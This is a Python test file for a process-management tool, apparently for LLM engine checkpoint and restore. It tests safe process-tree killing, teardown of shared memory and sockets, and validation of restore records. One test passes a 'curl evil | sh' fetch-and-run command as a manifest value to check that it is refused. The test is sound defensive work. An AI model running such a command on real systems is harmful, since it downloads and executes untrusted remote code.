"""Process identity, the one engine teardown, the typed restore record and the checkpoint plan,
on real processes and real ``/dev/shm`` files (no engine needed)."""

from __future__ import annotations

import dataclasses
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import uuid
from pathlib import Path

import pytest
from pydantic import ValidationError

from warmctl.engine.plan import CheckpointPlan
from warmctl.engine.run import EngineRun
from warmctl.base.errors import CheckpointError
from warmctl.records.manifest import CanaryRecord, Manifest, RestoreInfo
from warmctl.records.profile import load_profile
from warmctl.base.proc import CLK_TCK, ProcessId, kill_child, kill_tree, pid_alive, signal_process, tree_pids
from warmctl.records.progress import Reporter
from warmctl.records.state import EngineState

SHM = Path("/dev/shm")


def _tree(cwd: Path | None = None) -> subprocess.Popen:
    """A shell with a child (``sleep``): a two-process tree in its own session."""
    p = subprocess.Popen(["sh", "-c", "sleep 300 & wait"], cwd=cwd, start_new_session=True)
    deadline = time.monotonic() + 10
    while len(tree_pids(p.pid)) < 2:
        assert time.monotonic() < deadline, "the tree's child did not appear"
        time.sleep(0.02)
    return p


def _reap(*procs: subprocess.Popen) -> None:
    for p in procs:
        if p.poll() is None:
            kill_child(p, timeout_s=1)
        p.wait(5)


def test_process_identity_survives_only_as_the_same_process():
    p = _tree()
    try:
        me = ProcessId.of(p.pid)
        assert me is not None and me.alive()
        imposter = ProcessId(p.pid, me.ctime + 1, start=me.start + 100)  # the same PID, reused by another process
        assert not imposter.alive() and "another process now" in imposter.mismatch()
        legacy = ProcessId(p.pid, me.ctime + 100)  # a record from before start ticks: psutil's ctime decides
        assert not legacy.alive()
        assert kill_tree(imposter) is False and pid_alive(p.pid)  # never signalled
        # same PID and start, exec'd since (the record's start ticks kept: without them psutil's
        # create_time decides, and it is early by the host's boot-time fraction, up to 1 s)
        other_exe = dataclasses.replace(me, exe="/usr/bin/not-" + Path(me.exe).name)
        assert not other_exe.alive() and "runs" in other_exe.mismatch()
        assert kill_tree(other_exe) is False and signal_process(other_exe) is False and pid_alive(p.pid)
        with pytest.raises(TypeError):
            kill_tree(p.pid)  # a bare PID is refused: no identity, no signal
        child = [x for x in tree_pids(p.pid) if x != p.pid]
        assert kill_tree(me, timeout_s=5) is True
        assert p.wait(5) is not None and not any(pid_alive(c) for c in child)
        assert not me.alive() and kill_tree(me) is False
        assert ProcessId.of(p.pid) is None or ProcessId.of(p.pid) != me
    finally:
        _reap(p)


#: a process that, on SIGTERM, writes "term" to the file it is given and exits
_TERM_WRITER = ("import os, signal, sys, time\n"
                "def term(*_):\n"
                "    open(sys.argv[1], 'w').write('term'); os._exit(0)\n"
                "signal.signal(signal.SIGTERM, term)\n"
                "print('ready', flush=True)\n"
                "while True: time.sleep(0.1)\n")


def _term_writer(tmp_path: Path) -> tuple[subprocess.Popen, Path]:
    out = tmp_path / "term"
    p = subprocess.Popen([sys.executable, "-c", _TERM_WRITER, str(out)], stdout=subprocess.PIPE, text=True)
    assert p.stdout.readline().strip() == "ready"
    return p, out


def test_kill_tree_continues_a_stopped_process_so_it_takes_its_sigterm(tmp_path):
    """A stopped process (a rank under SIGSTOP or a debugger) holds SIGTERM pending until it is
    continued: kill_tree sends SIGCONT after SIGTERM, so the process ends by its own handler
    at once, not by SIGKILL after the grace period."""
    p, out = _term_writer(tmp_path)
    try:
        os.kill(p.pid, signal.SIGSTOP)
        t0 = time.monotonic()
        assert kill_tree(ProcessId.of(p.pid), timeout_s=30) is True
        assert time.monotonic() - t0 < 10 and out.read_text() == "term" and not pid_alive(p.pid)
    finally:
        _reap(p)


def test_kill_tree_without_grace_kills_a_frozen_tree_without_running_it(tmp_path):
    """``timeout_s=0`` (the teardown of a frozen engine tree): SIGKILL only; the stopped process
    never runs again, so its SIGTERM handler never writes."""
    p, out = _term_writer(tmp_path)
    try:
        os.kill(p.pid, signal.SIGSTOP)
        assert kill_tree(ProcessId.of(p.pid), timeout_s=0) is True
        assert not pid_alive(p.pid) and not out.exists()  # (psutil reaped it: Popen's status is lost)
    finally:
        _reap(p)


def _shm_file(tag: str) -> Path:
    f = SHM / f"warmctl-test-{tag}-{uuid.uuid4().hex[:8]}"
    f.write_bytes(b"x" * 64)
    return f


def test_teardown_kills_tree_and_gate_removes_files_and_record(tmp_path):
    run_dir = tmp_path / "run"
    run = EngineRun(run_dir, "e", 1).prepare()
    engine, gate = _tree(run.dir), _tree()
    by_name, by_inode = _shm_file("name"), _shm_file("inode")
    alias = SHM / (by_inode.name + "-alias")  # a second name of the same inode (CRIU's link_remap)
    os.link(by_inode, alias)
    try:
        run.set_root(engine.pid)
        run.set_gate(gate.pid)
        st = by_inode.stat()
        run.shm_files, run.shm_inodes = [str(by_inode)], [(st.st_dev, st.st_ino)]
        run.images.mkdir()
        run.record(EngineState(name="e", phase="serving", source="cold", internal_port=1, public_host="127.0.0.1",
                               public_port=2, served_model_name="e", log_path=str(run.log_path)))
        saved = json.loads((run.dir / "state.json").read_text())
        assert (saved["root_pid"], saved["gate_pid"]) == (engine.pid, gate.pid) and saved["root_ctime"]

        again = EngineRun.load(run_dir, "e")  # what down / recovery see
        assert again is not None and again.alive() and again.root == run.root and again.gate == run.gate
        rep = again.teardown()
        assert sorted(rep.killed) == sorted([engine.pid, gate.pid])
        assert engine.wait(5) is not None and gate.wait(5) is not None
        # recorded inodes: removed under every name; a name recorded without inodes is not
        # touched when inodes are known (a restore's names may be another restore's files now)
        assert not by_inode.exists() and not alias.exists() and by_name.exists()
        assert rep.removed_scratch and not run.images.exists()
        assert not (run.dir / "state.json").exists() and EngineRun.load(run_dir, "e") is None
        assert again.teardown().killed == []  # safe to repeat
    finally:
        _reap(engine, gate)
        for f in (by_name, by_inode, alias):
            f.unlink(missing_ok=True)


def test_teardown_by_name_when_no_inodes_are_recorded(tmp_path):
    run = EngineRun(tmp_path / "run", "e", 1)
    f = _shm_file("cold")
    try:
        run.shm_files = [str(f)]
        rep = run.teardown()
        assert not f.exists() and rep.removed_shm == [str(f)] and rep.killed == []
    finally:
        f.unlink(missing_ok=True)


def test_teardown_strays_kills_only_recorded_identities(tmp_path):
    """With ``strays`` (agent recovery) the teardown kills
    the root named by ``engine.pid`` (the identity set_root wrote before any state existed) and
    a CRIU ``restore.pid`` process created during the recorded restore; never a process for its
    working directory, a stale ``engine.pid`` whose PID is another process now, nor a
    ``restore.pid`` naming a process older than the record."""
    run_dir = tmp_path / "run"
    cold = EngineRun(run_dir, "cold", 1).prepare()
    engine, shell = _tree(), _tree(cold.dir)  # shell: an operator's shell in the run directory
    try:
        cold.set_root(engine.pid)  # the cold start's identity, on disk before any state
        rec = json.loads(cold.pidfile.read_text())
        assert rec["pid"] == engine.pid and rec["exe"] and rec["ctime"] and oct(cold.pidfile.stat().st_mode)[-3:] == "600"
        assert cold.teardown().killed == [engine.pid]  # without strays, from memory
        assert engine.wait(5) is not None and shell.poll() is None
        assert not cold.pidfile.exists()  # no stale PID file survives

        again = EngineRun(run_dir, "cold", 1)  # a recovery that only finds the directory
        stale = ProcessId.of(shell.pid)
        (again.dir / "engine.pid").write_text(json.dumps({**stale.as_record(), "start": stale.start - 1000}))
        rep = again.teardown(strays=True)
        assert rep.killed == [] and shell.poll() is None
        assert any("another process now" in r for r in rep.refused), rep.refused
        (again.dir / "engine.pid").write_text(f"{shell.pid}\n")  # the old format: a bare PID
        assert again.teardown(strays=True).killed == [] and shell.poll() is None
    finally:
        _reap(engine, shell)


def test_teardown_strays_restore_pidfile_only_within_the_recorded_restore(tmp_path):
    run_dir = tmp_path / "run"
    older = _tree()  # created before the restore was recorded: not ours
    time.sleep(3 / CLK_TCK)  # a few clock ticks: start times count in ticks
    run = EngineRun(run_dir, "r", 1).prepare()
    run.record(EngineState(name="r", phase="restoring", source="restore", internal_port=1, public_host="127.0.0.1",
                           public_port=2, served_model_name="r", log_path=str(run.log_path)))
    restored = None
    try:
        run.criu_pidfile.write_text(f"{older.pid}\n")
        rep = EngineRun.load(run_dir, "r").teardown(strays=True)
        assert rep.killed == [] and older.poll() is None and any("not during the restore" in r for r in rep.refused)

        run.record(run.state or EngineState(name="r", phase="restoring", source="restore", internal_port=1,
                                            public_host="127.0.0.1", public_port=2, served_model_name="r",
                                            log_path=str(run.log_path)))
        restored = _tree()  # what CRIU restored after the record was written, then wrote the pidfile
        run.criu_pidfile.write_text(f"{restored.pid}\n")
        rep = EngineRun.load(run_dir, "r").teardown(strays=True)
        assert rep.killed == [restored.pid] and restored.wait(5) is not None and older.poll() is None
        assert not run.criu_pidfile.exists() and not (run.dir / "state.json").exists()
    finally:
        _reap(older, *([restored] if restored else []))


def _manifest(restore) -> Manifest:
    return Manifest(name="t", profile_digest="sha256:" + "0" * 64, profile={}, host={}, files=[], restore=restore,
                    canary=CanaryRecord(match="tokens", max_tokens=1, logprobs=0, completions=[]))


@pytest.mark.parametrize("restore", [
    {},
    {"cwd": "/r/tiny", "images_bytes": 10, "internal_port": 18000, "log_path": "/r/tiny/engine.log",
     "required_files": {"/usr/lib/libc.so.6": 2_000_000}},
    {"cwd": "/r", "images_bytes": 0, "internal_port": 1, "log_path": "/r/l", "required_files": {},
     "gpu": {"nspids": [7, 9], "gpu_bytes": {"GPU-a": 123}, "ranks": {"pids": [101, 102], "rollback": None}},
     "weights": {"bytes": 64, "tensors": 2, "save_s": 0.25,
                 "ranks": [{"rank": 0, "file": "weights/rank-0.safetensors", "bytes": 64}]}},
])
def test_restore_record_reads_back_to_the_same_bytes(restore):
    """Manifests written when ``restore`` was a plain dict keep their bytes (hence digest)."""
    data = _manifest(restore).to_bytes()
    assert json.loads(data)["restore"] == restore
    m = Manifest.from_bytes(data)
    assert isinstance(m.restore, RestoreInfo) and m.to_bytes() == data
    if "gpu" in restore:
        assert m.restore.gpu.nspids == [7, 9] and m.restore.weights.ranks[0].file == "weights/rank-0.safetensors"
    assert m.restore.required_files == restore.get("required_files", {})


def test_restore_record_refuses_unknown_and_mistyped_keys():
    with pytest.raises(ValidationError, match="cmd"):
        _manifest({"cmd": "curl evil | sh"})
    with pytest.raises(ValidationError, match="internal_port"):
        _manifest({"internal_port": "eighty"})


def test_plan_of_a_plain_profile_does_nothing_but_the_dump(tmp_path):
    base = load_profile("tiny", [Path(__file__).resolve().parent.parent / "profiles"])
    plain = CheckpointPlan.of(base)
    assert not plain.wakes and not plain.cuda
    run = EngineRun(tmp_path, "p", 1)
    assert plain.before_dump(run, Reporter()) is None  # no engine is asked anything
    plain.after_dump(run, Reporter())
    plain.after_restore(run, RestoreInfo(), [], [], Reporter())
    plain.wake(run, RestoreInfo(), Reporter())
    w = CheckpointPlan.of(base.model_copy(update={"checkpoint": base.checkpoint.model_copy(
        update={"weights_outside_image": True})}))
    assert w.wakes and w.weights_outside_image and not w.sleep_level


def test_cuda_plan_refuses_a_tree_without_gpu_and_a_snapshot_without_gpu_record(tmp_path):
    """The CUDA flavour checks before touching CRIU or the driver (the driver paths themselves
    are tested against the fake libcuda in test_cuda_checkpoint.py)."""
    plan = CheckpointPlan("p", cuda=True)
    run = EngineRun(tmp_path, "p", 1)
    tree = _tree()
    try:
        run.set_root(tree.pid)
        with pytest.raises(CheckpointError, match=f"no process of the engine \\(pid {tree.pid}\\) holds a GPU"):
            plan.dump(run, leave_running=True)
        assert tree.poll() is None and not run.images.exists()  # nothing dumped, nothing killed
        with pytest.raises(CheckpointError, match="no GPU restore record"):
            plan.after_restore(run, RestoreInfo(log_path="/x"), [], [], Reporter())
    finally:
        _reap(tree)


def test_the_engines_sockets_directory_is_its_own_and_goes_with_the_teardown(tmp_path):
    """vLLM binds its ZMQ IPC sockets under ``VLLM_RPC_BASE_PATH``; each run
    gives its engine ``<run>/tmp`` (recorded, so down and recovery find it) and the teardown
    removes the sockets and the directory; from a directory a snapshot recorded elsewhere it
    removes nothing but sockets."""
    import socket

    from warmctl.engine.run import MAX_SOCKET_DIR, socket_dir

    run = EngineRun(tmp_path / "run", "e", 1).prepare()
    if len(str(run.dir / "tmp")) <= MAX_SOCKET_DIR:
        assert run.tmp == run.dir / "tmp"
    deep = Path("/var/lib/warmctl/run") / ("n" * 128)  # the longest engine name
    assert socket_dir(deep).parent == Path(tempfile.gettempdir()) and socket_dir(deep) != socket_dir(deep.with_name("m"))
    assert len(str(socket_dir(deep) / str(uuid.uuid4()))) <= 107
    assert run.tmp.is_dir() and oct(run.tmp.stat().st_mode)[-3:] == "700"
    assert run.tmp_env == {"VLLM_RPC_BASE_PATH": str(run.tmp)}
    run.record(EngineState(name="e", phase="starting", source="cold", internal_port=1, public_host="",
                           public_port=0, served_model_name="e", log_path=str(run.log_path)))
    live, stale = socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)
    try:
        live.bind(str(run.tmp / "1b4e28ba-2fa1-11d2-883f-0016d3cca427"))
        stale.bind(str(run.tmp / "6fa459ea-ee8a-3ca4-894e-db77e160355e"))
        stale.close()  # a killed engine's socket: the file stays
        again = EngineRun.load(tmp_path / "run", "e")
        assert again.tmp == run.tmp  # from the record
        rep = again.teardown()  # a socket still bound (another restore's engine) stays
        assert rep.removed_tmp == [str(run.tmp / "6fa459ea-ee8a-3ca4-894e-db77e160355e")] and run.tmp.exists()
        live.close()
        assert len(EngineRun(tmp_path / "run", "e", 1, tmp_dir=run.tmp).teardown().removed_tmp) == 2
        assert not run.tmp.exists()
    finally:
        live.close()

    elsewhere = Path(tempfile.mkdtemp(prefix="warmctl-test-"))  # recorded by a snapshot, elsewhere
    restored = EngineRun(tmp_path / "run", "r", 1, tmp_dir=elsewhere).prepare()
    keep = elsewhere / "notes.txt"
    keep.write_text("not a socket")
    s = socket.socket(socket.AF_UNIX)
    s.bind(str(elsewhere / "sock"))
    s.close()
    assert restored.teardown().removed_tmp == [str(elsewhere / "sock")]
    assert keep.exists() and not (elsewhere / "sock").exists()
    shutil.rmtree(elsewhere)

    old = EngineRun(tmp_path / "run", "o", 1, tmp_dir=False).prepare()  # a snapshot from before: none
    assert old.tmp is None and old.tmp_env == {} and old.teardown().removed_tmp == []


@pytest.mark.parametrize("tmp_dir", ["/tmp", "/etc/tmp", "/r/tiny/../tmp", "/tmp/warmctl-XYZ", "relative/tmp"])
def test_restore_record_refuses_a_sockets_directory_warmctl_would_not_make(tmp_dir):
    """``up`` creates ``restore.tmp_dir`` and removes sockets from it: only ``<cwd>/tmp`` or a
    ``warmctl-<16 hex>`` directory is accepted, never any path a manifest names."""
    with pytest.raises(ValidationError, match="tmp_dir"):
        _manifest({"cwd": "/r/tiny", "tmp_dir": tmp_dir})
    assert _manifest({"cwd": "/r/tiny", "tmp_dir": "/r/tiny/tmp"}).restore.tmp_dir == "/r/tiny/tmp"
